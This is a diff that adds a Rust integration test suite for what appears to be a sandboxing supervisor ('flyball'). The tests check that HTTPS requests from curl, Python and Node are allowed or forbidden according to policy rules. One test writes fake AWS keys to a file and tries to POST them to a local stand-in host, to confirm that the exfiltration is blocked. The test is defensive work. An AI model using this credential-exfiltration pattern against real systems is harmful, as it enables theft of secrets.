@@ -1,0 +1,178 @@
+//! HTTP inside connections: real clients in a session, a real TLS server outside, each request ruled on.
+
+use crate::support::{Case, World, program, stderr};
+use flyball_testkit::user::User;
+use std::io::{BufRead, BufReader};
+use std::path::Path;
+use std::process::{Child, Command, Stdio};
+
+pub fn cases() -> Vec<Case> {
+    vec![
+        Case { name: "requests_in_tls_are_ruled_on_whoever_makes_them", needs, run: clients },
+        Case { name: "what_was_written_does_not_leave_by_an_open_connection", needs, run: barrier },
+        Case { name: "a_push_over_https_is_a_push", needs, run: push },
+    ]
+}
+
+fn needs(_: User) -> Option<String> {
+    ["openssl", "python3", "curl", "git", "node"].into_iter().find_map(program)
+}
+
+/// Answers with method, path and how many bytes came; stays open for more.
+const SERVER: &str = r#"
+import http.server, ssl, sys
+class Handler(http.server.BaseHTTPRequestHandler):
+    protocol_version = "HTTP/1.1"
+    def do(self):
+        got = len(self.rfile.read(int(self.headers.get("Content-Length") or 0)))
+        text = f"{self.command} {self.path} {got}\n".encode()
+        self.send_response(200)
+        self.send_header("Content-Length", str(len(text)))
+        self.end_headers()
+        self.wfile.write(text)
+    do_GET = do_POST = do_PUT = do_DELETE = do
+    def log_message(self, *_): pass
+server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
+context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
+context.load_cert_chain(sys.argv[1], sys.argv[2])
+server.socket = context.wrap_socket(server.socket, server_side=True)
+print(server.server_port, flush=True)
+server.serve_forever()
+"#;
+
+struct Server {
+    child: Child,
+    port: u16,
+    /// The authority that vouches for it.
+    ca: std::path::PathBuf,
+}
+
+impl Server {
+    fn start(dir: &Path) -> Self {
+        let made = Command::new("openssl")
+            .args(["req", "-x509", "-newkey", "ec", "-pkeyopt", "ec_paramgen_curve:prime256v1", "-nodes", "-days", "2"])
+            .args(["-subj", "/CN=host.internal", "-addext", "subjectAltName=DNS:host.internal"])
+            .args(["-addext", "basicConstraints=critical,CA:FALSE", "-keyout", "key.pem"])
+            .args(["-out", "cert.pem"])
+            .current_dir(dir)
+            .output()
+            .unwrap();
+        assert!(made.status.success(), "{made:?}");
+        let mut child = Command::new("python3")
+            .args(["-c", SERVER, "cert.pem", "key.pem"])
+            .current_dir(dir)
+            .stdin(Stdio::null())
+            .stdout(Stdio::piped())
+            .spawn()
+            .unwrap();
+        let mut line = String::new();
+        BufReader::new(child.stdout.take().unwrap()).read_line(&mut line).unwrap();
+        Self { child, port: line.trim().parse().unwrap(), ca: dir.join("cert.pem") }
+    }
+}
+
+impl Drop for Server {
+    fn drop(&mut self) {
+        let _ = self.child.kill();
+        let _ = self.child.wait();
+    }
+}
+
+/// A governed repository and a server that its charter lets be reached, but for `/forbidden`.
+fn scene(user: User) -> (World, Server, tempfile::TempDir) {
+    let world = World::new(user);
+    let outside = tempfile::tempdir().unwrap();
+    let server = Server::start(outside.path());
+    // An ordinary user's supervisor reads the certificate as well.
+    let readable = Command::new("chmod").args(["-R", "a+rX"]).arg(outside.path()).status().unwrap();
+    assert!(readable.success());
+    world.init(
+        "[http]\nopen = true",
+        "@id(\"not-there\") @owner(\"maintainer\") @reason(\"Nobody asks for that.\")\n\
+         forbid (principal, action == Action::\"http.request\", resource)\n\
+         when { resource.path like \"/forbidden*\" };\n",
+    );
+    world.edit("rules.cedar", "[\"localhost\",", "[\"host.internal\", \"localhost\",");
+    (world, server, outside)
+}
+
+fn run(world: &World, server: &Server, script: &str) -> String {
+    std::fs::write(
+        world.repo.workspace().join("work.sh"),
+        script.replace("@URL@", &format!("https://host.internal:{}", server.port)),
+    )
+    .unwrap();
+    let mut command = world.flyball(&["run", "--apply", "never", "--on-hold", "deny", "--", "sh", "work.sh"]);
+    let output = command.env("SSL_CERT_FILE", &server.ca).output().unwrap();
+    format!("{}{}", String::from_utf8_lossy(&output.stdout), stderr(&output))
+}
+
+fn clients(user: User) {
+    let (world, server, _outside) = scene(user);
+    // An ordinary user's supervisor reads it as well.
+    let said = run(
+        &world,
+        &server,
+        r#"
+        curl -sS @URL@/curl; curl -sS --http1.1 -d body @URL@/curl; echo 'url = @URL@/forbidden/curl' >settings; curl -sS -o /dev/null -w 'curl %{http_code}\n' -K settings
+        /usr/bin/python3 -c 'import urllib.request as u; print(u.urlopen("@URL@/python").read().decode())'
+        /usr/bin/python3 -c 'import urllib.request as u; u.urlopen("@URL@/forbidden/python")' 2>&1 | tail -1
+        node -e 'fetch("@URL@/node").then(r => r.text()).then(t => console.log(t))'
+        node -e 'fetch("@URL@/forbidden/node").then(r => console.log("node", r.status))'
+        "#,
+    );
+    for expect in
+        ["GET /curl 0", "POST /curl 4", "curl 403", "GET /python 0", "HTTP Error 403", "GET /node 0", "node 403"]
+    {
+        assert!(said.contains(expect), "{expect} is not in:\n{said}");
+    }
+    assert!(said.contains("rule not-there") || world.ok(&["log", "@"]).contains("not-there"), "{said}");
+    let log = world.log();
+    let requests: Vec<&serde_json::Value> =
+        log.iter().filter(|e| e["kind"] == "attempt" && e["body"]["surface"] == "http").collect();
+    let of = |path: &str| requests.iter().filter(|e| e["body"]["resource"]["path"] == path).count();
+    assert_eq!((of("/curl"), of("/python"), of("/node"), of("/forbidden/node")), (2, 1, 1, 1));
+    // What led to a request is the connection that it came on.
+    for request in &requests {
+        let cause = request["cause"][0].as_u64().unwrap();
+        let by = log.iter().find(|e| e["seq"] == cause).unwrap();
+        assert_eq!(by["body"]["verb"], "net.connect", "{request}");
+    }
+    world.ok(&["verify"]);
+}
+
+/// One connection, kept open: what is written between two requests is judged before the second.
+fn barrier(user: User) {
+    let (world, server, _outside) = scene(user);
+    let program = format!(
+        "import http.client, ssl, time\n\
+         c = http.client.HTTPSConnection('host.internal', {}, context=ssl.create_default_context())\n\
+         c.request('GET', '/first'); print(c.getresponse().read().decode())\n\
+         open('leak.txt', 'w').write('aws_access_key_id = AKIA' + 'IOSFODNN7EXAMPLA' + chr(10) + 'aws_secret_access_key = wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEZ' + chr(10))\n\
+         c.request('POST', '/second', open('leak.txt').read() if __import__('os').path.exists('leak.txt') else '')\n\
+         r = c.getresponse(); print('second', r.status, r.read().decode())\n",
+        server.port
+    );
+    std::fs::write(world.repo.workspace().join("leak.py"), program).unwrap();
+    let said = run(&world, &server, "/usr/bin/python3 leak.py");
+    assert!(said.contains("GET /first 0") && said.contains("second 403") && !said.contains("POST /second"), "{said}");
+}
+
+/// The push says what it does in its own words, to whatever server.
+fn push(user: User) {
+    let (world, server, _outside) = scene(user);
+    let zero = "0".repeat(40);
+    let one = "1".repeat(40);
+    let command = format!("{zero} {one} refs/heads/main\0 report-status");
+    let body = format!("{:04x}{command}0000PACK", command.len() + 4);
+    std::fs::write(world.repo.workspace().join("body"), body).unwrap();
+    let said = run(
+        &world,
+        &server,
+        "curl -sS -w '%{http_code}\\n' --data-binary @body @URL@/o/r.git/git-receive-pack; echo end",
+    );
+    assert!(
+        said.contains("default-branch-is-asked-about") && said.contains("403") && !said.contains("POST /o"),
+        "{said}"
+    );
+}
